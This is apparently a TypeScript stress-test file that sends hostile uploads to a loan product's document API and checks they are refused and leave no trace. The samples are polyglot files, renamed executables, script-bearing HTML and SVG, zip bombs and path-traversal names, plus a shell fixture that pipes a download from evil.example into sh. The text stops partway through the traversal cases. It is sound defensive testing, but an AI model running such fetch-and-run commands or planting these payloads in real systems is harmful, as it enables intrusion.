import { createHash, randomBytes } from 'node:crypto';
import { existsSync } from 'node:fs';
import { readdir, readFile } from 'node:fs/promises';
import { createRequire, syncBuiltinESMExports } from 'node:module';
import { dirname, join, relative, sep } from 'node:path';
import { crc32, createDeflateRaw, deflateSync } from 'node:zlib';
import { type AttributeValue, ScanCommand } from '@aws-sdk/client-dynamodb';
import { customersPorts } from '@ezc/fn-customers/ports';
import type { LocalRuntime } from '@ezc/local';
import type { BlobStore } from '@ezc/platform/blobs/blob-store';
import { S3BlobStore } from '@ezc/platform/blobs/s3-blob-store';
import { LOCAL_KMS_KEY_ID } from '@ezc/platform/blobs/s3-local/local-documents';
import { dynamoClient } from '@ezc/platform/table/dynamo-client';
import { type AwsStub, startAwsStub } from '@ezc/platform/testing/aws-stub';
import { keysOnDisk, storedKeys } from '@ezc/platform/testing/test-documents';
import {
  objectStreamOf,
  onePage,
  pdfOf,
  pngOfSize,
  pngPdfPolyglot,
  pngWithTrailingPdf,
  sampleExecutable,
  sampleJpeg,
  sampleMp4,
  samplePdf,
  samplePng,
  streamObject,
  zipOf,
} from '@ezc/platform/uploads/sample-files';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { api, signIn } from '../support/api';
import { startTestServer } from '../support/server';
import { STRESS_MODE, stressSize, writeStressResult } from '../support/stress';

/**
 * Proof under stress, uploads: hostile files sent through the real API of a running product —
 * polyglots, wrong magic bytes, oversize files, path tricks in names, zip bombs in office formats,
 * PDFs with script — are refused with the spec's texts (§5, §8) and leave nothing behind: no
 * object in the document store at once, no file of it on disk once the bucket's lifecycle has run,
 * no media row, no upload grant. Sensitive documents are shown to be ciphertext on disk, every
 * stored version to be under SSE-KMS with the product's key, and the S3 adapter's PutObject to
 * carry SSE-KMS under the data key (what the bucket demands). The fast version runs in `npm test`;
 * `npm run stress` runs more and larger cases. Expected texts are written from the spec, not read
 * from the code.
 */

// spec §5 and §8, word for word.
const IMAGE_OR_PDF = 'You can only upload JPG, JPEG, PNG and PDF';
const IMAGE_ONLY = 'You can only upload Image (JPG, JPEG, and PNG)';
const MP4_ONLY = 'You can only upload MP4';
const DOCUMENT_FAILED = 'Upload Document Failed';
const VIDEO_FAILED = 'Upload Video Failed';
const smallerThan = (mb: number) => `Document must smaller than ${mb}MB!`;

const BORROWER = 'CUST-000001';
const MB = 1024 * 1024;
const full = STRESS_MODE === 'full';

type Via = 'form' | 'link' | 'declared';
interface Expected {
  status: number;
  code?: string;
  message?: string;
  title?: string;
}
interface UploadCase {
  group: string;
  name: string;
  title: string;
  fileName: string;
  bytes: () => Buffer;
  via?: Via;
  /** For `declared`: the size announced instead of the file's. */
  declaredSize?: number;
  fileExtension?: string;
  expect: Expected;
}
interface CaseResult {
  group: string;
  name: string;
  via: Via;
  title: string;
  fileName: string;
  bytes: number;
  expected: Expected;
  got: { status: number; code?: string; message?: string; title?: string };
  asExpected: boolean;
  refused: boolean;
  /** Files that appeared under the data folder and media rows added, after a refusal. */
  newFiles: string[];
  newMediaRows: number;
  /** Keys the bucket newly lists (whose newest version is an object), and keys with anything new on disk. */
  newStoredKeys: string[];
  newKeysOnDisk: string[];
  /** Of `newFiles`, those still on disk once the bucket's lifecycle has run a day later. */
  filesAfterLifecycle?: string[];
  ms: number;
}

const typeRefusal = (text: string, title = DOCUMENT_FAILED): Expected => ({
  status: 400,
  code: 'MEDIA.TYPE_NOT_ALLOWED',
  message: text,
  title,
});
const accepted: Expected = { status: 201 };

let rt: LocalRuntime;
let token: string;
let dataDir: string;
let scanTable: () => Promise<{ media: number; grants: number }>;
const call = () => api(rt.url);
const results: CaseResult[] = [];
const figures: Record<string, unknown> = {};
const tableChecks: { group: string; mediaRowsAdded: number; uploadGrantsAdded: number }[] = [];

beforeAll(async () => {
  rt = await startTestServer({ web: false });
  token = await signIn(rt.url, 'borrower@demo.test');
  // The document store keeps its files in <data folder>/s3: the data folder is the whole of what
  // the product writes to disk.
  dataDir = dirname(documents().dir);
  const dynamo = dynamoClient({ region: rt.config.AWS_REGION, endpoint: rt.platform.table.endpoint! });
  scanTable = async () => {
    let media = 0;
    let grants = 0;
    let start: Record<string, AttributeValue> | undefined;
    do {
      const page = await dynamo.send(
        new ScanCommand({
          TableName: rt.platform.table.name,
          ProjectionExpression: 'PK',
          FilterExpression: 'begins_with(PK, :media)',
          ExpressionAttributeValues: { ':media': { S: 'MEDIA' } },
          ...(start ? { ExclusiveStartKey: start } : {}),
        }),
      );
      for (const item of page.Items ?? []) {
        if (String(item.PK?.S).startsWith('MEDIAUPLOAD#')) grants++;
        else media++;
      }
      start = page.LastEvaluatedKey;
    } while (start);
    return { media, grants };
  };
  // The borrower starts with no documents, so every title has room.
  const listed = await call().get<{ Data: { MediaId: string }[] }>(
    `/medias?rows=999999&page=1&ObjectType=Customer&ObjectId=${BORROWER}`,
    token,
  );
  for (const m of listed.body.Data) await remove(m.MediaId);
}, 300_000);

afterAll(async () => {
  const refused = results.filter((r) => r.refused);
  const times = results.map((r) => r.ms).sort((a, b) => a - b);
  const file = writeStressResult('uploads', {
    summary: {
      cases: results.length,
      asExpected: results.filter((r) => r.asExpected).length,
      refused: refused.length,
      accepted: results.length - refused.length,
      storedAfterRefusal: refused.filter(
        (r) =>
          r.newStoredKeys.length > 0 ||
          (r.filesAfterLifecycle ?? r.newFiles).length > 0 ||
          r.newMediaRows > 0,
      ).length,
      // Read from the whole table around each group, once its accepted files were deleted.
      tableAcrossGroups: tableChecks,
      byGroup: Object.fromEntries(
        [...new Set(results.map((r) => r.group))].map((g) => [
          g,
          {
            cases: results.filter((r) => r.group === g).length,
            refused: refused.filter((r) => r.group === g).length,
          },
        ]),
      ),
      msMedian: times[Math.floor(times.length / 2)] ?? 0,
      msMax: times.at(-1) ?? 0,
      ...figures,
    },
    cases: results,
  });
  console.log(`uploads: ${results.length} cases, figures in ${file}`);
  await rt?.stop();
});

// ---------------------------------------------------------------------------------------------
// Sending a file as the site does: the form through the API, or the upload link to the store.

async function uploadForm(c: UploadCase, file: Buffer) {
  const form = new FormData();
  const fields: Record<string, string> = {
    ObjectId: BORROWER,
    ObjectType: 'Customer',
    Title: c.title,
    FileName: c.fileName,
    ...(c.fileExtension !== undefined ? { FileExtension: c.fileExtension } : {}),
  };
  for (const [name, value] of Object.entries(fields)) form.append(name, value);
  // The part's own file name carries the trick too; the API takes the name from FileName.
  form.append('FileStream', new Blob([new Uint8Array(file)]), c.fileName);
  const res = await fetch(`${rt.url}/api/medias/internal`, {
    method: 'POST',
    headers: { authorization: `Bearer ${token}` },
    body: form,
  });
  return { status: res.status, body: (await res.json()) as Answer };
}
interface Answer {
  Data?: { MediaId: string; FileName: string } & Record<string, unknown>;
  message?: string;
  code?: string;
  title?: string;
}
interface Ticket {
  UploadId: string;
  url: string;
  method: 'POST';
  fields: Record<string, string>;
}

const requestUpload = (c: UploadCase, size: number) =>
  call().post<{ Data: Ticket } & Answer>(
    '/medias/upload-url',
    {
      ObjectId: BORROWER,
      ObjectType: 'Customer',
      Title: c.title,
      FileName: c.fileName,
      Size: size,
      ...(c.fileExtension !== undefined ? { FileExtension: c.fileExtension } : {}),
    },
    token,
  );

async function postToStore(ticket: Ticket, file: Buffer, fields = ticket.fields) {
  const form = new FormData();
  for (const [name, value] of Object.entries(fields)) form.append(name, value);
  form.append('file', new Blob([new Uint8Array(file)]));
  const res = await fetch(ticket.url, { method: ticket.method, body: form });
  return { status: res.status, body: await s3Answer(res) };
}

/** An S3 answer: nothing on success (204), or an XML `<Error>` whose Code and Message are read. */
async function s3Answer(res: Response): Promise<Answer> {
  const xml = await res.text();
  const element = (name: string) => new RegExp(`<${name}>([^<]*)</${name}>`).exec(xml)?.[1];
  const code = element('Code');
  const message = element('Message');
  return { ...(code !== undefined ? { code } : {}), ...(message !== undefined ? { message } : {}) };
}

async function uploadByLink(c: UploadCase, file: Buffer) {
  const ticket = await requestUpload(c, c.declaredSize ?? file.length);
  if (ticket.status !== 200 || c.via === 'declared') return ticket;
  const posted = await postToStore(ticket.body.Data, file);
  if (posted.status !== 204) return posted;
  return call().post<Answer>('/medias/confirm-upload', { UploadId: ticket.body.Data.UploadId }, token);
}

/** The borrower's media rows (the row under its owner is written with the row by its id). */
const mediaRowsOfBorrower = async () =>
  (await customersPorts(rt.platform).medias.listOf('Customer', BORROWER)).length;

const remove = (mediaId: string) =>
  call().call<Answer>('DELETE', `/medias/${mediaId}`, { token, headers: {} });

/** Every file under the test server's data folder, relative to it. */
async function filesUnderDataDir(): Promise<Set<string>> {
  const names = await readdir(dataDir, { recursive: true, withFileTypes: true });
  return new Set(
    names
      .filter((d) => d.isFile())
      .map((d) => relative(dataDir, join(d.parentPath, d.name)).split(sep).join('/')),
  );
}

/** The document store of the moment (read each time: the product may start over on another). */
const documents = () => rt.adapters.documents;
const BUCKET = 'ezc-documents';

/**
 * The folder of a key, relative to the data folder, as the store lays it out:
 * `s3/<bucket>/<sha256(key), 2 hex>/<sha256(key)>`. Whatever the key, a folder of 64 hex digits.
 */
const keyFolder = (key: string) => {
  const hash = createHash('sha256').update(key).digest('hex');
  return `s3/${BUCKET}/${hash.slice(0, 2)}/${hash}`;
};

/** Any file of the store: a key's history, or one version's sealed bytes or its description. */
const storeFile =
  /^s3\/ezc-documents\/([0-9a-f]{2})\/\1[0-9a-f]{62}\/(history\.json|[A-Za-z0-9_-]{32}\.(bin|json))$/;

/** A file of the store with its version id written as `<version>`, to compare with a layout by hand. */
const withoutVersion = (file: string) => file.replace(/\/[A-Za-z0-9_-]{32}\.(bin|json)$/, '/<version>.$1');

/** The files a key holds with one version (or one version and its delete marker) on disk. */
const filesOfOneVersion = (key: string) => [
  `${keyFolder(key)}/<version>.bin`,
  `${keyFolder(key)}/<version>.json`,
  `${keyFolder(key)}/history.json`,
];

/** A key the server names: a media's, or the upload form's under uploads/. */
const serverKey =
  /^(uploads\/)?media\/[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}\.(pdf|png|jpg|jpeg|mp4)$/;

/**
 * Runs the bucket's lifecycle as S3 would 25 hours from now: what was deleted (noncurrent for over
 * a day) goes with its bytes, and the delete markers left alone go too.
 */
const lifecycleADayLater = () => documents().applyLifecycle(new Date(Date.now() + 25 * 3600_000));

const newOf = <T>(after: Iterable<T>, before: Iterable<T>) => {
  const had = new Set(before);
  return [...after].filter((x) => !had.has(x));
};

/**
 * Sends one case and records what came back and what it left: the files that appeared under the
 * data folder, and the media rows and upload grants added to the table. An accepted file (a path
 * trick on a real PDF) is checked for where it went, then deleted.
 */
async function attempt(c: UploadCase): Promise<CaseResult> {
  const file = c.bytes();
  const via = c.via ?? 'form';
  const filesBefore = await filesUnderDataDir();
  const storedBefore = await storedKeys(documents());
  const onDiskBefore = await keysOnDisk(documents());
  const rowsBefore = await mediaRowsOfBorrower();
  const started = performance.now();
  const res = via === 'form' ? await uploadForm(c, file) : await uploadByLink(c, file);
  const ms = Math.round(performance.now() - started);
  const filesAfter = await filesUnderDataDir();
  const rowsAfter = await mediaRowsOfBorrower();
  const got = {
    status: res.status,
    ...(res.body.code !== undefined ? { code: res.body.code } : {}),
    ...(res.body.message !== undefined ? { message: res.body.message } : {}),
    ...(res.body.title !== undefined ? { title: res.body.title } : {}),
  };
  const asExpected = Object.entries(c.expect).every(([k, v]) => got[k as keyof typeof got] === v);
  const result: CaseResult = {
    group: c.group,
    name: c.name,
    via,
    title: c.title,
    fileName: c.fileName,
    bytes: c.declaredSize ?? file.length,
    expected: c.expect,
    got,
    asExpected,
    refused: res.status !== 201,
    newFiles: newOf(filesAfter, filesBefore),
    newMediaRows: rowsAfter - rowsBefore,
    newStoredKeys: newOf(await storedKeys(documents()), storedBefore),
    newKeysOnDisk: newOf(await keysOnDisk(documents()), onDiskBefore),
    ms,
  };
  results.push(result);
  return result;
}

/** Runs a group's cases and checks each: the expected answer, and nothing kept after a refusal. */
async function runGroup(cases: UploadCase[]) {
  const out: CaseResult[] = [];
  for (const c of cases) out.push(await attempt(c));
  const wrong = out
    .filter((r) => !r.asExpected)
    .map((r) => ({ name: r.name, expected: r.expected, got: r.got }));
  expect(wrong).toEqual([]);
  // At once, a refusal leaves no object in the bucket (a read of any key it wrote answers
  // NoSuchKey) and no media row. A file sent through the API, or one only announced, never
  // reached the store, so not a file was written for it either.
  const leftBehind = out
    .filter(
      (r) =>
        r.refused &&
        (r.newStoredKeys.length > 0 || r.newMediaRows !== 0 || (r.via !== 'link' && r.newFiles.length > 0)),
    )
    .map((r) => ({ name: r.name, keys: r.newStoredKeys, files: r.newFiles, rows: r.newMediaRows }));
  expect(leftBehind).toEqual([]);
  // A file the browser posted to the store itself is there before the product reads it; once
  // refused it is deleted, and in the versioned bucket its bytes stay behind a delete marker until
  // the lifecycle, which a day later leaves nothing of it on disk.
  await lifecycleADayLater();
  const onDisk = new Set(await keysOnDisk(documents()));
  for (const r of out.filter((r) => r.refused)) {
    r.filesAfterLifecycle = r.newFiles.filter((f) => existsSync(join(dataDir, f)));
  }
  const leftOnDisk = out
    .filter((r) => r.refused)
    .map((r) => ({
      name: r.name,
      files: r.filesAfterLifecycle!,
      keys: r.newKeysOnDisk.filter((k) => onDisk.has(k)),
    }))
    .filter((r) => r.files.length > 0 || r.keys.length > 0);
  expect(leftOnDisk).toEqual([]);
  return out;
}

// ---------------------------------------------------------------------------------------------
// The hostile files, built here.

const text = (s: string) => Buffer.from(s, 'latin1');
const elf = () => Buffer.concat([text('\x7fELF\x02\x01\x01\0'), Buffer.alloc(120)]);
const script = () => text('#!/bin/sh\ncurl -s https://evil.example/x | sh\n');
const html = () => text('<!DOCTYPE html><html><body><script>fetch("/api/auth/me")</script></body></html>');
const svg = () =>
  text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>');
const gif = () =>
  text(
    'GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;',
  );
const bmp = () => Buffer.concat([text('BM'), Buffer.alloc(60)]);
const jar = () =>
  zipOf([
    { name: 'META-INF/MANIFEST.MF', body: text('Manifest-Version: 1.0\nMain-Class: Evil\n') },
    { name: 'Evil.class', body: Buffer.concat([Buffer.from([0xca, 0xfe, 0xba, 0xbe]), Buffer.alloc(200)]) },
  ]);
/** A PDF reader takes a PDF header anywhere in the first kilobyte: a zip with a PDF right after its header. */
const zipThenPdf = () =>
  Buffer.concat([zipOf([{ name: 'a.txt', body: text('a') }]).subarray(0, 40), samplePdf()]);
const pdfWith = (catalogExtra: string, ...more: (string | Buffer)[]) =>
  pdfOf([`<< /Type /Catalog /Pages 2 0 R ${catalogExtra}>>`, ...onePage, ...more]);
const escapeAll = (name: string) =>
  [...name].map((ch) => `#${ch.charCodeAt(0).toString(16).toUpperCase()}`).join('');

/** `inflated` bytes of zeros, deflated in pieces (the whole is never held): a bomb's payload. */
async function deflatedZeros(inflated: number): Promise<{ deflated: Buffer; crc32: number; size: number }> {
  const piece = Buffer.alloc(16 * MB);
  const deflater = createDeflateRaw({ level: 9 });
  const out: Buffer[] = [];
  deflater.on('data', (d: Buffer) => out.push(d));
  const done = new Promise((resolve) => deflater.on('end', resolve));
  let crc = 0;
  for (let left = inflated; left > 0; left -= piece.length) {
    const part = piece.subarray(0, Math.min(piece.length, left));
    crc = crc32(part, crc);
    if (!deflater.write(part)) await new Promise((resolve) => deflater.once('drain', resolve));
  }
  deflater.end();
  await done;
  return { deflated: Buffer.concat(out), crc32: crc >>> 0, size: inflated };
}

/** A deflate bomb as an office file: the payload as its main part, with the parts around it. */
const officeBomb = (kind: 'docx' | 'xlsx', payload: Awaited<ReturnType<typeof deflatedZeros>>) =>
  zipOf([
    { name: '[Content_Types].xml', body: text('<?xml version="1.0"?><Types/>') },
    { name: kind === 'docx' ? 'word/document.xml' : 'xl/worksheets/sheet1.xml', ...payload },
  ]);

// ---------------------------------------------------------------------------------------------

describe('hostile uploads are refused with the spec’s texts and leave nothing behind', () => {
  // Around each group, the whole table: no media row is left, and any upload grant left is counted.
  let tableBefore: { media: number; grants: number };
  beforeEach(async () => {
    tableBefore = await scanTable();
  });
  afterEach(async (ctx) => {
    const after = await scanTable();
    tableChecks.push({
      group: ctx.task.name,
      mediaRowsAdded: after.media - tableBefore.media,
      uploadGrantsAdded: after.grants - tableBefore.grants,
    });
    expect(after.media - tableBefore.media).toBe(0);
  });

  it('polyglots: a file that is two formats at once', async () => {
    const cases: UploadCase[] = [
      {
        name: 'PNG header + PDF, named .png',
        title: 'Bank Statement',
        fileName: 'scan.png',
        bytes: pngPdfPolyglot,
        expect: typeRefusal(IMAGE_OR_PDF),
      },
      {
        name: 'PNG header + PDF, named .pdf',
        title: 'Bank Statement',
        fileName: 'scan.pdf',
        bytes: pngPdfPolyglot,
        expect: typeRefusal(IMAGE_OR_PDF),
      },
      {
        name: 'PNG header + PDF as an identity image',
        title: 'NRIC Front',
        fileName: 'ic.png',
        bytes: pngPdfPolyglot,
        expect: typeRefusal(IMAGE_ONLY),
      },
      {
        name: 'PNG with a PDF after its end',
        title: 'Pay Slip',
        fileName: 'slip.png',
        bytes: pngWithTrailingPdf,
        expect: typeRefusal(IMAGE_OR_PDF),
      },
      {
        name: 'JPEG with %PDF- inside',
        title: 'Pay Slip',
        fileName: 'slip.jpg',
        bytes: () => sampleJpeg('x %PDF-1.7 1 0 obj << >> endobj'),
        expect: typeRefusal(IMAGE_OR_PDF),
      },
      {
        name: 'JPEG followed by a whole PDF',
        title: 'Pay Slip',
        fileName: 'slip.jpg',
        bytes: () => Buffer.concat([sampleJpeg(), samplePdf()]),
        expect: typeRefusal(IMAGE_OR_PDF),
      },
      {
        name: 'PDF that is also a zip (archive appended)',
        title: 'Pay Slip',
        fileName: 'slip.pdf',
        bytes: () => Buffer.concat([samplePdf(), jar()]),
        expect: typeRefusal(IMAGE_OR_PDF),
      },
      {
        name: 'zip with a PDF header in its first kilobyte',
        title: 'Pay Slip',
        fileName: 'slip.pdf',
        bytes: zipThenPdf,
        expect: typeRefusal(IMAGE_OR_PDF),
      },
      {
        name: 'GIFAR (GIF + JAR) named .jpg',
        title: 'Photo',
        fileName: 'me.jpg',
        bytes: () => Buffer.concat([gif(), jar()]),
        expect: typeRefusal(IMAGE_ONLY),
      },
      {
        name: 'GIFAR (GIF + JAR) named .gif',
        title: 'Photo',
        fileName: 'me.gif',
        bytes: () => Buffer.concat([gif(), jar()]),
        expect: typeRefusal(IMAGE_ONLY),
      },
      {
        name: 'JPEG + JAR (GIFAR-like)',
        title: 'Photo',
        fileName: 'me.jpg',
        bytes: () => Buffer.concat([sampleJpeg(), jar()]),
        expect: typeRefusal(IMAGE_ONLY),
      },
      {
        name: 'PNG + JAR (GIFAR-like)',
        title: 'Photo',
        fileName: 'me.png',
        bytes: () => Buffer.concat([samplePng(), jar()]),
        expect: typeRefusal(IMAGE_ONLY),
      },
      {
        name: 'PNG header + PDF through the upload link',
        title: 'Bank Statement',
        fileName: 'april.png',
        via: 'link',
        bytes: pngPdfPolyglot,
        expect: typeRefusal(IMAGE_OR_PDF),
      },
      {
        name: 'MP4 + PDF through the upload link',
        title: 'Signing Video',
        fileName: 'session.mp4',
        via: 'link',
        bytes: () => Buffer.concat([sampleMp4(), samplePdf()]),
        expect: typeRefusal(MP4_ONLY, VIDEO_FAILED),
      },
      {
        name: 'JPEG + JAR through the upload link',
        title: 'Pay Slip',
        fileName: 'slip.jpg',
        via: 'link',
        bytes: () => Buffer.concat([sampleJpeg(), jar()]),
        expect: typeRefusal(IMAGE_OR_PDF),
      },
    ].map((c) => ({ group: 'polyglot', ...c }) as UploadCase);
    if (full) {
      // Near the limit: the second format at the end of a 5 MB image.
      cases.push(
        {
          group: 'polyglot',
          name: '5 MB PNG with a PDF header at its end',
          title: 'Pay Slip',
          fileName: 'big.png',
          bytes: () => {
            const p = pngOfSize(5 * MB - 64);
            return Buffer.concat([p.subarray(0, p.length - 12), text('%PDF-1.7'), p.subarray(p.length - 12)]);
          },
          expect: typeRefusal(IMAGE_OR_PDF),
        },
        {
          group: 'polyglot',
          name: '4 MB JPEG + JAR',
          title: 'Pay Slip',
          fileName: 'big.jpg',
          bytes: () => Buffer.concat([sampleJpeg('x'.repeat(60_000)), randomBytes(4 * MB), jar()]),
          expect: typeRefusal(IMAGE_OR_PDF),
        },
      );
    }
    await runGroup(cases);
  });

  it('wrong magic bytes: programs, scripts and pages renamed, empty files, cut-off headers', async () => {
    const renamed: [string, () => Buffer][] = [
      ['Linux program (ELF)', elf],
      ['Windows program (MZ/PE)', sampleExecutable],
      ['shell script', script],
      ['HTML page with script', html],
      ['SVG with script', svg],
    ];
    const cases: UploadCase[] = [];
    for (const [what, bytes] of renamed) {
      for (const ext of full ? ['pdf', 'jpg', 'jpeg', 'png'] : ['pdf', 'png']) {
        cases.push({
          group: 'magic',
          name: `${what} renamed .${ext}`,
          title: 'Pay Slip',
          fileName: `slip.${ext}`,
          bytes,
          expect: typeRefusal(IMAGE_OR_PDF),
        });
      }
    }
    cases.push(
      ...[
        {
          name: 'ELF renamed .jpg as an identity image',
          title: 'NRIC Back',
          fileName: 'ic.jpg',
          bytes: elf,
          expect: typeRefusal(IMAGE_ONLY),
        },
        {
          name: 'GIF renamed .jpg',
          title: 'Photo',
          fileName: 'me.jpg',
          bytes: gif,
          expect: typeRefusal(IMAGE_ONLY),
        },
        {
          name: 'BMP renamed .png',
          title: 'Photo',
          fileName: 'me.png',
          bytes: bmp,
          expect: typeRefusal(IMAGE_ONLY),
        },
        {
          name: 'PDF renamed .png',
          title: 'Pay Slip',
          fileName: 'slip.png',
          bytes: () => samplePdf(),
          expect: typeRefusal(IMAGE_OR_PDF),
        },
        {
          name: 'JPEG renamed .pdf',
          title: 'Pay Slip',
          fileName: 'slip.pdf',
          bytes: () => sampleJpeg(),
          expect: typeRefusal(IMAGE_OR_PDF),
        },
        {
          name: 'MP4 renamed .jpg',
          title: 'Pay Slip',
          fileName: 'slip.jpg',
          bytes: sampleMp4,
          expect: typeRefusal(IMAGE_OR_PDF),
        },
        {
          name: 'a real PDF as an identity image',
          title: 'NRIC Front',
          fileName: 'ic.pdf',
          bytes: () => samplePdf(),
          expect: typeRefusal(IMAGE_ONLY),
        },
        {
          name: 'PNG signature only (8 bytes)',
          title: 'Pay Slip',
          fileName: 'slip.png',
          bytes: () => pngPdfPolyglot().subarray(0, 8),
          expect: typeRefusal(IMAGE_OR_PDF),
        },
        {
          name: 'JPEG start of image only (3 bytes)',
          title: 'Pay Slip',
          fileName: 'slip.jpg',
          bytes: () => sampleJpeg().subarray(0, 3),
          expect: typeRefusal(IMAGE_OR_PDF),
        },
        {
          name: 'PNG cut before its end chunk',
          title: 'Pay Slip',
          fileName: 'slip.png',
          bytes: () => samplePng().subarray(0, 40),
          expect: typeRefusal(IMAGE_OR_PDF),
        },
        {
          name: 'PDF header only',
          title: 'Pay Slip',
          fileName: 'slip.pdf',
          bytes: () => text('%PDF-'),
          expect: typeRefusal(IMAGE_OR_PDF),
        },
        {
          name: 'PDF cut in half',
          title: 'Pay Slip',
          fileName: 'slip.pdf',
          bytes: () => samplePdf().subarray(0, 120),
          expect: typeRefusal(IMAGE_OR_PDF),
        },
        {
          name: '%PD (short of the header)',
          title: 'Pay Slip',
          fileName: 'slip.pdf',
          bytes: () => text('%PD'),
          expect: typeRefusal(IMAGE_OR_PDF),
        },
        {
          name: 'PDF header after a space',
          title: 'Pay Slip',
          fileName: 'slip.pdf',
          bytes: () => Buffer.concat([text(' '), samplePdf()]),
          expect: typeRefusal(IMAGE_OR_PDF),
        },
        {
          name: 'MP4 as QuickTime (qt brand) through the link',
          title: 'Signing Video',
          fileName: 'session.mp4',
          via: 'link' as Via,
          bytes: () => Buffer.concat([Buffer.from([0, 0, 0, 0x14]), text('ftypqt  \0\0\0\0qt  ')]),
          expect: typeRefusal(MP4_ONLY, VIDEO_FAILED),
        },
        {
          name: 'ELF through the upload link',
          title: 'Pay Slip',
          fileName: 'slip.pdf',
          via: 'link' as Via,
          bytes: elf,
          expect: typeRefusal(IMAGE_OR_PDF),
        },
        // The spec has no text for an empty file: the product's own.
        {
          name: 'empty file',
          title: 'Pay Slip',
          fileName: 'slip.pdf',
          bytes: () => Buffer.alloc(0),
          expect: { status: 400, code: 'MEDIA.EMPTY', message: 'The file is empty.', title: DOCUMENT_FAILED },
        },
        {
          name: 'empty file announced for the link',
          title: 'Pay Slip',
          fileName: 'slip.pdf',
          via: 'declared' as Via,
          declaredSize: 0,
          bytes: () => Buffer.alloc(0),
          expect: { status: 400, code: 'MEDIA.EMPTY', message: 'The file is empty.', title: DOCUMENT_FAILED },
        },
      ].map((c) => ({ group: 'magic', ...c })),
    );
    if (full) {
      // Random bytes behind each accepted signature's first byte, and random files outright.
      for (let i = 0; i < 100; i++) {
        const ext = ['pdf', 'png', 'jpg'][i % 3]!;
        cases.push({
          group: 'magic',
          name: `random bytes #${i} named .${ext}`,
          title: 'Pay Slip',
          fileName: `r${i}.${ext}`,
          bytes: () => randomBytes(1 + ((i * 997) % 200_000)),
          expect: typeRefusal(IMAGE_OR_PDF),
        });
      }
    }
    await runGroup(cases);
  });

  it('oversize: announced and sent, just over the limit (and exactly at it, accepted)', async () => {
    const cases: UploadCase[] = [
      {
        name: 'exactly 5 MB (accepted)',
        title: 'Other Income',
        fileName: 'rent.png',
        bytes: () => pngOfSize(5 * MB),
        expect: accepted,
      },
      {
        name: '5 MB + 1 byte sent',
        title: 'Other Income',
        fileName: 'rent.png',
        bytes: () => pngOfSize(5 * MB + 1),
        expect: { status: 413, code: 'MEDIA.TOO_LARGE', message: smallerThan(5), title: DOCUMENT_FAILED },
      },
      {
        name: 'signature 2 MB + 1 byte sent',
        title: 'Signature',
        fileName: 'sign.png',
        bytes: () => pngOfSize(2 * MB + 1),
        expect: { status: 413, code: 'MEDIA.TOO_LARGE', message: smallerThan(2), title: DOCUMENT_FAILED },
      },
      {
        name: '5 MB + 1 byte announced',
        title: 'Pay Slip',
        fileName: 'slip.pdf',
        via: 'declared',
        declaredSize: 5 * MB + 1,
        bytes: () => samplePdf(),
        expect: { status: 400, code: 'MEDIA.TOO_LARGE', message: smallerThan(5), title: DOCUMENT_FAILED },
      },
      {
        name: 'video 500 MB + 1 byte announced',
        title: 'Signing Video',
        fileName: 'session.mp4',
        via: 'declared',
        declaredSize: 500 * MB + 1,
        bytes: sampleMp4,
        expect: { status: 400, code: 'MEDIA.TOO_LARGE', message: smallerThan(500), title: VIDEO_FAILED },
      },
      // The store holds the form to the size it granted (its signed policy's content-length-range),
      // and answers as S3 does (no spec text there): 400 EntityTooLarge, before anything is kept.
      {
        name: 'announced small, 5 MB + 1 sent to the store',
        title: 'Pay Slip',
        fileName: 'slip.pdf',
        via: 'link',
        declaredSize: 1000,
        bytes: () => pngOfSize(5 * MB + 1),
        expect: {
          status: 400,
          code: 'EntityTooLarge',
          message: 'Your proposed upload exceeds the maximum allowed size',
        },
      },
    ].map((c) => ({ group: 'oversize', ...c }) as UploadCase);
    if (full) {
      cases.push(
        {
          group: 'oversize',
          name: '15 MB sent (cut off at the limit as it streams)',
          title: 'Pay Slip',
          fileName: 'slip.png',
          bytes: () => pngOfSize(15 * MB),
          expect: { status: 413, code: 'MEDIA.TOO_LARGE', message: smallerThan(5), title: DOCUMENT_FAILED },
        },
        // A form declaring more than any upload may (16 MB) is refused at the edge before a byte
        // is read, as API Gateway does past 10 MB in AWS: the document is not known yet, so the
        // answer is the edge's own.
        {
          group: 'oversize',
          name: '50 MB sent (refused at the edge by its declared length)',
          title: 'Pay Slip',
          fileName: 'slip.png',
          bytes: () => pngOfSize(50 * MB),
          expect: { status: 413, code: 'HTTP.PAYLOAD_TOO_LARGE', message: 'Request body is too large.' },
        },
        {
          group: 'oversize',
          name: 'video 5 GB announced',
          title: 'Signing Video',
          fileName: 'session.mp4',
          via: 'declared',
          declaredSize: 5 * 1024 * MB,
          bytes: sampleMp4,
          expect: { status: 400, code: 'MEDIA.TOO_LARGE', message: smallerThan(500), title: VIDEO_FAILED },
        },
        {
          group: 'oversize',
          name: 'eKYC image 5 MB + 1 byte sent',
          title: 'eKYC Front',
          fileName: 'front.png',
          bytes: () => pngOfSize(5 * MB + 1),
          expect: { status: 413, code: 'MEDIA.TOO_LARGE', message: smallerThan(5), title: DOCUMENT_FAILED },
        },
      );
    }
    try {
      await runGroup(cases);
    } finally {
      const atLimit = results.find((r) => r.group === 'oversize' && r.got.status === 201);
      if (atLimit) await removeAccepted(atLimit);
    }
    expect(results.filter((r) => r.group === 'oversize' && r.got.status === 201)).toHaveLength(1);
  });

  it('path tricks in names: the stored key is the server’s, and nothing lands outside the store', async () => {
    const pdf = () => samplePdf('Pay slip');
    /** The name as kept (cleaned), written by hand for the tricks whose outcome is a stored file. */
    const tricks: {
      fileName: string;
      kept?: string;
      expect?: Expected;
      bytes?: () => Buffer;
      fileExtension?: string;
    }[] = [
      { fileName: '../../etc/passwd.pdf', kept: 'or.oretcorpasswd.pdf' },
      { fileName: '..\\..\\x.pdf', kept: 'or.orx.pdf' },
      { fileName: '/etc/passwd.pdf', kept: 'oretcorpasswd.pdf' },
      { fileName: 'C:\\Windows\\System32\\x.pdf', kept: 'CorWindowsorSystem32orx.pdf' },
      { fileName: '\\\\server\\share\\x.pdf', kept: 'ororserverorshareorx.pdf' },
      { fileName: '%2e%2e%2f%2e%2e%2fetc%2fpasswd.pdf', kept: '%2e%2e%2f%2e%2e%2fetc%2fpasswd.pdf' },
